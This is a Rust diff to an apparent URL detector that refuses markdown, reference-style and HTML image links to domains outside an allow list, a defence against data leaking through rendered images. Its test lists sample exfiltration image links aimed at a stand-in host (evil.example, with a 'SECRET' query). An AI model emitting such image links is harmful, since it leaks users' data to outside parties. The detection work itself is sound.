@@ -11,8 +11,19 @@ use super::{Span, builtin_regex};
 
 static LINK: LazyLock<Regex> =
     LazyLock::new(|| builtin_regex(r#"(?i)\b(?:https?|ftp|wss?)://[^\s<>"'`)\]]+"#));
+/// Inline images `![alt](url "title")`; the alt text may hold one level of
+/// brackets and line breaks.
 static MD_IMAGE: LazyLock<Regex> = LazyLock::new(|| {
-    builtin_regex(r#"!\[[^\]\n]{0,500}\]\(\s*<?([^\s)>]+)>?(?:\s+"[^"\n]{0,500}")?\s*\)?"#)
+    builtin_regex(
+        r#"!\[(?:[^\[\]]|\[[^\[\]]*\]){0,500}\]\(\s*<?([^\s)>]+)>?(?:\s+"[^"\n]{0,500}")?\s*\)?"#,
+    )
+});
+/// Reference-style definitions `[ref]: url`, which images can point at.
+static MD_REFERENCE: LazyLock<Regex> =
+    LazyLock::new(|| builtin_regex(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*<?([^\s>]+)>?"));
+/// HTML images, which markdown renderers pass through.
+static HTML_IMAGE: LazyLock<Regex> = LazyLock::new(|| {
+    builtin_regex(r#"(?i)<img\b[^>]{0,1000}?\bsrc\s*=\s*["']?([^"'\s>]+)[^>]{0,1000}>?"#)
 });
 
 #[derive(Debug)]
@@ -71,16 +82,28 @@ impl<'de> Deserialize<'de> for UrlDetector {
 
 impl UrlDetector {
     pub fn find(&self, text: &str) -> Vec<Span> {
-        if !text.contains("://") {
+        let images = text.contains("![")
+            || text.contains("]:")
+            || text.contains("<img")
+            || text.contains("<IMG");
+        if !images && !text.contains("//") {
             return Vec::new();
         }
         let mut out = Vec::new();
-        for c in MD_IMAGE.captures_iter(text) {
-            let (Some(whole), Some(link)) = (c.get(0), c.get(1)) else {
-                continue;
-            };
-            if self.refused(link.as_str()) {
-                out.push(Span::new(whole.start(), whole.end(), "markdown_image"));
+        if images {
+            for (re, kind) in [
+                (&*MD_IMAGE, "markdown_image"),
+                (&*MD_REFERENCE, "markdown_image"),
+                (&*HTML_IMAGE, "html_image"),
+            ] {
+                for c in re.captures_iter(text) {
+                    let (Some(whole), Some(link)) = (c.get(0), c.get(1)) else {
+                        continue;
+                    };
+                    if self.refused(link.as_str()) {
+                        out.push(Span::new(whole.start(), whole.end(), kind));
+                    }
+                }
             }
         }
         if !self.images_only {
@@ -95,9 +118,14 @@ impl UrlDetector {
     }
 
     /// A link whose host cannot be parsed is refused: it cannot be shown
-    /// to be on an allowed domain.
+    /// to be on an allowed domain. Protocol-relative links (`//host/x`) are
+    /// read as https; `http:host/x` parses with its host.
     fn refused(&self, link: &str) -> bool {
-        let host = ::url::Url::parse(link).ok().and_then(|u| {
+        let absolute = match link.strip_prefix("//") {
+            Some(rest) => format!("https://{rest}"),
+            None => link.to_owned(),
+        };
+        let host = ::url::Url::parse(&absolute).ok().and_then(|u| {
             u.host_str()
                 .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
         });
@@ -131,6 +159,22 @@ mod tests {
             &text[spans[0].start..spans[0].end],
             "![x](https://evil.test/?q=secret)"
         );
+    }
+
+    #[test]
+    fn images_without_a_scheme_separator_still_match() {
+        let d = detector("allow_domains: [docs.example.com]\nmarkdown_images_only: true");
+        for text in [
+            "See ![s](//evil.example/p.png?d=SECRET)",
+            "See ![s](http:evil.example/p.png)",
+            "See ![a [b] c](https://evil.example/p.png)",
+            "See ![chart][r]\n\n[r]: https://evil.example/p.png",
+            "See <img src=\"https://evil.example/p.png\">",
+            "relative ![x](/local/path.png)",
+        ] {
+            assert!(!d.find(text).is_empty(), "{text}");
+        }
+        assert!(d.find("ok ![x](https://docs.example.com/a.png)").is_empty());
     }
 
     #[test]
